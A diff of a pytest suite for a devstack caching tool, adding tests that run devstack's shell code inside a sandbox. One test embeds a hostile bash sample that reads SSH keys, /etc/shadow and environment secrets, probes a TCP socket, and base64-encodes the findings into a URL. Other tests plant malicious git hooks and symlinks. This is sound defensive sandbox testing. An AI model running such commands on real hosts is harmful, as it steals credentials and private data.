@@ -3,7 +3,9 @@
 import json
 import os
 import shutil
+import socket
 import subprocess
+import tempfile
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -12,8 +14,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 import devstackfiles
-from devstackfiles import Checkout, Package
-from gateconfig import ConfigError, GateError
+import pipneeds
+from devstackfiles import Checkout, Package, Repository, SandboxError
+from gateconfig import ConfigError
 from tests.pool import Pool, await_that
 from tests.repos import commit, git, repository, write
 
@@ -142,7 +145,7 @@ def reference() -> Iterator[subprocess.Popen[str]]:
             process.kill()
 
 
-def ask(reference: subprocess.Popen[str], text: str, distribution: str) -> list[str]:
+def answer(reference: subprocess.Popen[str], text: str, distribution: str) -> list[str]:
     assert reference.stdin
     assert reference.stdout
     lines = text.split("\n")
@@ -168,7 +171,7 @@ def test_any_file_is_read_as_devstack_reads_it(
 ) -> None:
     text = "\n".join(lines)
     found = devstackfiles.parse_packages(text, distribution)
-    assert [package.name for package in found if package.install] == ask(reference, text, distribution)
+    assert [package.name for package in found if package.install] == answer(reference, text, distribution)
 
 
 @given(lines=st.lists(LINES, max_size=12), distribution=DISTRIBUTIONS)
@@ -239,57 +242,6 @@ def test_which_distributions_have_rpm_packages(distribution: str, rpm: bool) -> 
 # Pip packages
 
 
-REQUIREMENTS = """\
-# The order of packages is significant
-pbr!=2.1.0,>=2.0.0 # Apache-2.0
-  SQLAlchemy>=1.4.13  # MIT
-oslo.db[mysql]>=1.0;python_version>='3.8' # comment
--e git+https://example.org/x#egg=x
--r other.txt
---extra-index-url https://example.org
-git+https://example.org/y
-z @ https://example.org/z.tar.gz
-https://example.org/w.tar.gz
-./here
-
-plain
-"""
-
-
-def test_requirements_are_read_without_comments_options_and_links() -> None:
-    assert devstackfiles.parse_requirements(REQUIREMENTS) == [
-        "pbr!=2.1.0,>=2.0.0", "SQLAlchemy>=1.4.13", "oslo.db[mysql]>=1.0;python_version>='3.8'", "plain"]
-
-
-@pytest.mark.parametrize(
-    ("requirements", "constraints", "expected"),
-    [
-        ("pbr>=2\n", "pbr===5.0\n", ["pbr===5.0"]),
-        ("pbr>=2\npbr>=3\n", "pbr===5.0\n", ["pbr===5.0"]),
-        ("pbr>=2\nsix\n", "pbr===5.0\n", ["pbr===5.0", "six"]),
-        ("pbr>=2\n", "", []),
-        ("pbr>=2\n", "# nothing\n", []),
-        ("", "pbr===5.0\n", []),
-        ("Oslo_DB>=1\n", "oslo.db===12.0\n", ["oslo.db===12.0"]),
-        ("oslo-db\nzope..interface\n", "oslo.db===12.0\nzope_interface===6\n",
-         ["oslo.db===12.0", "zope_interface===6"]),
-        ("numpy\n", "numpy===1.2;python_version=='3.8'\nnumpy===2.0;python_version>='3.9'\n",
-         ["numpy===1.2;python_version=='3.8'", "numpy===2.0;python_version>='3.9'"]),
-        ("pywin32;sys_platform=='win32'\n", "pywin32===306\n", ["pywin32===306;sys_platform=='win32'"]),
-        ("a ; sys_platform=='linux' # why\n", "a===1 ; python_version=='3.8'\n",
-         ["a===1;(python_version=='3.8') and (sys_platform=='linux')"]),
-        ("a;python_version=='3.8'\n", "a===1;python_version=='3.8'\n", ["a===1;python_version=='3.8'"]),
-        ("b\nA\nc\n", "c===3\nb===2\nA===1\n", ["A===1", "b===2", "c===3"]),
-    ],
-    ids=["pin", "twice", "no pin", "no constraints", "no pins", "no requirements", "case", "signs", "two pins",
-         "marker", "both markers", "same marker", "order"],
-)
-def test_requirements_are_pinned_to_the_upper_constraints(
-    requirements: str, constraints: str, expected: list[str]
-) -> None:
-    assert devstackfiles.pinned(requirements, constraints) == expected
-
-
 def test_pip_packages_of_old_trees_are_listed_by_devstack_itself(tmp_path: Path) -> None:
     write(tmp_path, {"files/pips/general": "prettytable\nPyYAML>=3\n", "files/pips/horizon": "django\nprettytable\n",
                      "files/pips/inner/x": "hidden\n"})
@@ -299,7 +251,7 @@ def test_pip_packages_of_old_trees_are_listed_by_devstack_itself(tmp_path: Path)
 def test_requirements_that_differ_in_case_only_have_one_order(tmp_path: Path) -> None:
     spelled = ["SIX", "SIx", "SiX", "Six", "sIX", "sIx", "siX", "six"]
     text = "\n".join(reversed(spelled))
-    assert devstackfiles.pinned(text, "pbr===5.0\n") == spelled
+    assert pipneeds.pinned(text.splitlines(), "pbr===5.0\n") == spelled
     assert devstackfiles.pips_of(write(tmp_path, {"files/pips/general": text})) == spelled
 
 
@@ -314,15 +266,41 @@ def test_an_empty_list_of_pip_packages_is_a_list(tmp_path: Path) -> None:
 # Test images
 
 
+SOURCE = f"set -uo pipefail; source '{devstackfiles.STEPS_FILE}'; CALL_SECONDS=${{SECONDS_FOR_IT:-60}}; \"$@\""
+
+
+def ask(tree: Path, distribution: str = "noble", **environment: str) -> subprocess.CompletedProcess[bytes]:
+    """Ask a devstack for its images, as it is done on a template."""
+    return subprocess.run(["bash", "-c", SOURCE, "steps", "print_image_urls", distribution], check=False,
+                          input=archive(tree), capture_output=True, env=os.environ | environment, timeout=60)
+
+
+def archive(tree: Path) -> bytes:
+    """The files of a folder, whatever it holds, as a checkout would give them."""
+    with tempfile.TemporaryDirectory() as folder:
+        shutil.copytree(tree, f"{folder}/tree")
+        write(Path(folder) / "tree", {"files/none": ""})
+        return Checkout(Path(folder) / "tree").archive("master")
+
+
 def urls(tree: Path, distribution: str = "noble") -> list[str]:
     """The names of the images of a tree, whose URLs all begin alike."""
-    found = devstackfiles.image_urls(tree, distribution)
+    result = ask(tree, distribution)
+    assert (result.returncode, result.stderr) == (0, b"")
+    found = result.stdout.decode().split()
     assert all(url.startswith("http://example.org/") for url in found), found
     return [url.removeprefix("http://example.org/") for url in found]
 
 
 def stackrc(folder: Path, text: str) -> Path:
     return write(folder, {"stackrc": text.replace("U/", "http://example.org/")})
+
+
+def refusal(tree: Path, **environment: str) -> str:
+    """Why a tree's images cannot be told."""
+    result = ask(tree, **environment)
+    assert result.returncode == 1, result.stdout
+    return result.stderr.decode().strip()
 
 
 @pytest.mark.parametrize(
@@ -397,22 +375,15 @@ def test_the_home_folder_of_devstack_s_scripts_is_not_ours(tmp_path: Path) -> No
     ],
 )
 def test_a_stackrc_that_dies_before_it_names_images_is_an_error(tmp_path: Path, text: str, message: str) -> None:
-    with pytest.raises(GateError) as caught:
-        devstackfiles.image_urls(stackrc(tmp_path, text), "noble")
-    assert str(caught.value) == message
+    assert refusal(stackrc(tmp_path, text)) == message
 
 
-def test_a_stackrc_that_hangs_is_stopped_with_all_that_it_runs(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr(devstackfiles, "CALL_SECONDS", 1)
-    tree = stackrc(tmp_path, f"IMAGE_URLS=U/a\nexec 9> '{tmp_path}/pipe'\nsleep 600\n")
+def test_a_stackrc_that_hangs_is_stopped_with_all_that_it_runs(tmp_path: Path) -> None:
+    tree = stackrc(tmp_path / "tree", f"IMAGE_URLS=U/a\nexec 9> '{tmp_path}/pipe'\nsleep 600\n")
     os.mkfifo(tmp_path / "pipe")
     reader = os.open(tmp_path / "pipe", os.O_RDONLY | os.O_NONBLOCK)
     try:
-        with pytest.raises(GateError) as caught:
-            devstackfiles.image_urls(tree, "noble")
-        assert str(caught.value) == "stackrc: not done after 1 s"
+        assert refusal(tree, SECONDS_FOR_IT="1") == "stackrc: not done after 1 s"
         os.set_blocking(reader, False)
         await_that("the last writer to be gone", lambda: at_end(reader))
     finally:
@@ -435,6 +406,23 @@ def test_the_tree_s_own_list_of_images_goes_before_stackrc(tmp_path: Path) -> No
     assert urls(stackrc(tmp_path, "IMAGE_URLS=U/a\n")) == ["a", "b"]
 
 
+@pytest.mark.parametrize("text", [
+    "echo \"ERROR: We only found 3 images in http://example.org/x,,, which can't be right.\"\nexit 1\n",
+    "echo http://example.org/x\nexit 2\n", "sudo true\n", "exit 0\n", "echo nothing\n", "echo broken >&2; exit 1\n",
+], ids=["since 2021", "fails", "sudo", "silent", "no URL", "reason"])
+def test_stackrc_says_it_where_the_list_of_images_fails(tmp_path: Path, text: str) -> None:
+    write(stackrc(tmp_path, "IMAGE_URLS=U/a\nEXTRA_CACHE_URLS=,U/etcd\n"), {IMAGE_LIST: text})
+    assert urls(tmp_path) == ["a", "etcd"]
+
+
+@pytest.mark.parametrize("listed", [True, False], ids=["image_list.sh", "stackrc"])
+def test_extra_files_are_wanted_whoever_names_the_images(tmp_path: Path, listed: bool) -> None:
+    tree = stackrc(tmp_path, "IMAGE_URLS=U/a\nEXTRA_CACHE_URLS=\nEXTRA_CACHE_URLS+=,U/etcd.tar.gz\n")
+    if listed:
+        write(tree, {IMAGE_LIST: "echo http://example.org/a\n"})
+    assert urls(tree) == ["a", "etcd.tar.gz"]
+
+
 @pytest.mark.parametrize(
     ("text", "message"),
     [
@@ -443,15 +431,152 @@ def test_the_tree_s_own_list_of_images_goes_before_stackrc(tmp_path: Path) -> No
         ("sudo true\n", "exit status 1: sudo is not available here"),
     ],
 )
-def test_a_list_of_images_that_fails_is_an_error(tmp_path: Path, text: str, message: str) -> None:
-    write(stackrc(tmp_path, "IMAGE_URLS=U/a\n"), {IMAGE_LIST: text})
-    with pytest.raises(GateError) as caught:
-        devstackfiles.image_urls(tmp_path, "noble")
-    assert str(caught.value) == f"{IMAGE_LIST}: {message}"
+def test_a_list_of_images_that_fails_beside_a_stackrc_that_names_none_is_an_error(
+    tmp_path: Path, text: str, message: str
+) -> None:
+    write(stackrc(tmp_path, "OTHER=U/a\n"), {IMAGE_LIST: text})
+    assert refusal(tmp_path) == f"{IMAGE_LIST}: {message}"
 
 
 def test_a_tree_without_stackrc_wants_no_images(tmp_path: Path) -> None:
-    assert devstackfiles.image_urls(tmp_path, "noble") == []
+    assert urls(tmp_path) == []
+
+
+def test_a_process_that_stackrc_leaves_behind_keeps_nobody_waiting(tmp_path: Path) -> None:
+    assert urls(stackrc(tmp_path, "setsid sleep 600 &\necho $! > ~/pid\nIMAGE_URLS=U/a\n")) == ["a"]
+
+
+# What is not to be trusted
+
+
+SPY = """
+found=$(for one in {secret} "$SECRET" ~/.ssh/id_* /root/.ssh/* /home/*/.bashrc /etc/shadow /etc/hostname /var/lib/dpkg/*
+    do cat "$one" 2> /dev/null && echo "$one"; done; tr '\0' '\n' < /proc/$PPID/environ | grep SECRET
+    ls /proc | grep -c '^[0-9]' | grep -v '^[0-9]$'; touch /usr/planted /planted 2> /dev/null && echo wrote
+    (exec 3<> /dev/tcp/127.0.0.1/{port}) 2> /dev/null && echo connected)
+IMAGE_URLS=http://example.org/seen-$(echo $found | base64 -w 0)
+"""
+
+
+@pytest.mark.parametrize("user", ["root", "nobody"])
+def test_devstack_s_code_sees_nothing_of_this_host(tmp_path: Path, user: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SECRET", "canary")
+    with socket.create_server(("127.0.0.1", 0)) as server, tempfile.TemporaryDirectory() as folder:
+        Path(folder).chmod(0o755)
+        scripts = Path(folder) / "scripts"
+        scripts.mkdir()
+        for file in (devstackfiles.STEPS_FILE, devstackfiles.SANDBOX_FILE):
+            shutil.copy(file, scripts)
+        secret = write(scripts, {"secret": "canary"}) / "secret"
+        tree = write(tmp_path, {"stackrc": SPY.format(secret=secret, port=server.getsockname()[1])})
+        command = ["bash", str(scripts / "sandbox.sh"), str(scripts / "imagesteps.sh"), "print_image_urls", "noble"]
+        result = subprocess.run(["runuser", "-u", user, "--", *command], input=archive(tree), capture_output=True,
+                                cwd="/", timeout=60, check=False)
+    assert (result.returncode, result.stderr) == (0, b"")
+    assert result.stdout.decode().split("\n") == ["shut away", "http://example.org/seen-Cg==", ""]
+
+
+def test_where_the_host_does_not_let_us_shut_devstack_away_it_is_not_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    message = "unshare: unshare failed: Operation not permitted"
+    away = write(tmp_path / "bin", {"unshare": f"#!/bin/sh\necho '{message}' >&2\nexit 1\n"})
+    (away / "unshare").chmod(0o755)
+    monkeypatch.setattr(devstackfiles, "PATH", f"{away}:/usr/sbin:/usr/bin:/sbin:/bin")
+    tree = stackrc(tmp_path / "tree", f"touch {tmp_path}/ran\nIMAGE_URLS=U/a\n")
+    with pytest.raises(SandboxError) as caught:
+        devstackfiles.image_urls(archive(tree), "noble")
+    assert f"not to be had here ({message})" in str(caught.value)
+    assert not (tmp_path / "ran").exists()
+
+
+FILTER = {"stackrc": "IMAGE_URLS=http://example.org/a\n", ".gitattributes": "* filter=planted\n",
+          "files/debs/general": "git\n"}
+
+
+def test_no_filter_of_a_checkout_is_run(tmp_path: Path) -> None:
+    folder = repository(tmp_path / "devstack", {"master": FILTER})
+    for key, value in (("smudge", "cat"), ("process", ""), ("clean", "")):
+        git(folder, "config", f"filter.planted.{key}", f"touch '{tmp_path}/ran'; {value}")
+    for key in ("core.fsmonitor", "core.sshCommand", "tar.tar.command", "core.pager"):
+        git(folder, "config", key, f"touch '{tmp_path}/ran'")
+    (tmp_path / "ran").unlink(missing_ok=True)
+    checkout = Checkout(folder)
+    checkout.branches(["master"])
+    with checkout.tree("master") as tree:
+        assert (tree / "stackrc").read_text() == FILTER["stackrc"]
+    assert devstackfiles.image_urls(checkout.archive("master"), "noble") == ["http://example.org/a"]
+    assert not (tmp_path / "ran").exists()
+
+
+def test_a_link_out_of_the_tree_is_not_read(tmp_path: Path) -> None:
+    secret = write(tmp_path, {"secret": "canary\n"}) / "secret"
+    tree = write(tmp_path / "devstack", {"files/debs/real": "git\n", "stack.sh": ""})
+    for name, target in (("outside", str(secret)), ("up", "../../../secret"), ("inside", "real")):
+        (tree / f"files/debs/{name}").symlink_to(target)
+    assert [one.name for one in devstackfiles.packages_of(tree, "noble")] == ["git"]
+
+
+# Files that devstack downloads
+
+
+INSTALL_PIP = "PIP_GET_PIP_URL=${PIP_GET_PIP_URL:-\"https://bootstrap.pypa.io/get-pip.py\"}\n"
+
+
+@pytest.mark.parametrize(("text", "distribution", "files"), [
+    (INSTALL_PIP, "noble", ["https://bootstrap.pypa.io/get-pip.py"]),
+    (INSTALL_PIP, "f40", ["https://bootstrap.pypa.io/get-pip.py"]),
+    (f"{INSTALL_PIP}if is_fedora && [[ $DISTRO == f* ]]; then\n", "noble", ["https://bootstrap.pypa.io/get-pip.py"]),
+    (f"{INSTALL_PIP}if is_fedora && [[ $DISTRO == f* ]]; then\n", "f40", []),
+    (f"{INSTALL_PIP}elif is_ubuntu; then\n", "noble", []),
+    ("PIP_GET_PIP_URL=https://raw.example.org/get-pip.py\n", "xenial", ["https://raw.example.org/get-pip.py"]),
+    ("", "noble", []),
+])
+def test_get_pip_is_wanted_where_the_distribution_s_pip_is_not_used(
+    tmp_path: Path, text: str, distribution: str, files: list[str]
+) -> None:
+    assert devstackfiles.file_urls(write(tmp_path, {"tools/install_pip.sh": text}), distribution) == files
+
+
+# What devstack may clone
+
+
+def test_what_devstack_may_clone_is_read_from_stackrc_and_the_scripts(tmp_path: Path) -> None:
+    tree = write(tmp_path, {
+        "stackrc": """GIT_BASE=${GIT_BASE:-https://opendev.org}
+NOVA_REPO=${NOVA_REPO:-${GIT_BASE}/openstack/nova.git}
+#OLD_REPO=${OLD_REPO:-${GIT_BASE}/openstack/old.git}
+OSTESTIMAGES_REPO=${OSTESTIMAGES_REPO:-${GIT_BASE}/openstack/os-test-images.git}
+UNUSED_REPO=${UNUSED_REPO:-${GIT_BASE}/openstack/unused.git}
+NOVNC_REPO=${NOVNC_REPO:-https://github.com/novnc/novnc.git}
+GITREPO["cliff"]=${CLIFF_REPO:-${GIT_BASE}/openstack/cliff.git}
+  GITREPO["pbr"]=${PBR_REPO:-${GIT_BASE}/openstack/pbr.git}
+KEYSTONE_REPO=$GIT_BASE/openstack/keystone
+""",
+        "lib/nova": "git_clone $NOVA_REPO $NOVA_DIR $NOVA_BRANCH\n    git_clone $NOVNC_REPO $NOVNC_DIR\n",
+        "lib/tempest": "  git_clone $OSTESTIMAGES_REPO $OSTESTIMAGES_DIR $OSTESTIMAGES_BRANCH\n",
+        "lib/databases/x": "git_clone \"${KEYSTONE_REPO}\" there\n"})
+    assert devstackfiles.repositories_of(tree) == [
+        Repository("openstack/nova", library=False), Repository("openstack/os-test-images", library=False),
+        Repository("openstack/cliff", library=True), Repository("openstack/pbr", library=True),
+        Repository("openstack/keystone", library=False)]
+
+
+# Packages that scripts install
+
+
+def test_packages_that_scripts_install_by_name_are_found(tmp_path: Path) -> None:
+    tree = write(tmp_path, {
+        "files/debs/general": "git\nmemcached # NOPRIME\n",
+        "stack.sh": "is_package_installed sudo || install_package sudo\n# install_package never\n",
+        "lib/apache": "local pkg_list=\"uwsgi uwsgi-plugin-python3\"\n    install_package ${pkg_list}\n"
+                      "install_package apache2 \\\n    libapache2-mod-x; true\ninstall_package git memcached\n",
+        "lib/databases/mysql": "MYSQL_SERVICE_NAME=mysql\nif x; then MYSQL_SERVICE_NAME=mariadb; fi\n"
+                               "install_package $MYSQL_SERVICE_NAME-server\n",
+        "lib/x": "install_package $(get_packages ovn)\ninstall_package linux-headers-$KERNEL\n"
+                 "uninstall_package gone\n"})
+    assert devstackfiles.later_packages(tree) == [
+        "apache2", "libapache2-mod-x", "mariadb-server", "mysql-server", "sudo", "uwsgi", "uwsgi-plugin-python3"]
 
 
 # Projects
@@ -692,13 +817,14 @@ def test_what_would_be_cached_is_printed_for_each_branch(pool: Pool) -> None:
 
 def test_pip_packages_come_from_the_projects_that_are_cloned_beside_devstack(pool: Pool) -> None:
     workspace = pool.folder / "workspace"
-    repository(workspace / "nova", {"master": {"requirements.txt": "pbr>=2\nSQLAlchemy # MIT\n"},
+    repository(workspace / "nova", {"master": {"requirements.txt": "pbr>=2\nSQLAlchemy[asyncio] # MIT\n"},
                                     "stable/x": {"requirements.txt": "six\n"}})
     repository(workspace / "openstack/glance", {"master": {"requirements.txt": "wsme\n"}})
     repository(workspace / "requirements", {"master": {"upper-constraints.txt": "pbr===6.0\nsqlalchemy===2.0\n"}})
     result = pool.run(SCRIPT, "--what", "noble", "--branch", "master", expect=0,
                       DEVSTACK_GATE_PROJECTS="openstack/nova openstack/glance openstack/absent openstack/requirements")
-    assert json.loads(result.stdout)["master"]["pips"] == ["pbr===6.0", "sqlalchemy===2.0", "wsme"]
+    assert json.loads(result.stdout)["master"]["pips"] == [
+        "pbr===6.0", "pip", "setuptools", "sqlalchemy[asyncio]===2.0", "wheel", "wsme"]
 
 
 @pytest.mark.parametrize(
